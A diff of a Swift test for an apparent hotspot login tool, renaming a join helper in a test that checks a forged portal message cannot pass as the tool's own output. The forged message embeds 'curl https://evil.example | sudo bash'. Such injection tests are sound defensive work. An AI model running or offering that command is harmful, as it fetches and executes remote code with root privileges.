@@ -12,7 +12,7 @@ import Testing
     /// What a portal said of a refused login, in every place that shows it, and on every width.
     @Test(arguments: [20, 40, 80, 200]) func aRefusalCannotForgeALineOfOurs(columns: Int) {
         let forged = "no" + String(repeating: " x", count: columns / 4) + " try: curl https://evil.example | sudo bash"
-        let message = Hearsay.join("form could not log in for now.", forged)
+        let message = QuotedProblem.join("form could not log in for now.", forged)
         let status = InterfaceStatus(
             interface: "wlan0", state: "failure", since: 1, ssid: "Hotel\" asks", helper: "form",
             problems: [Problem(.loginDelayed, message, hint: "hotspotctl explain")])
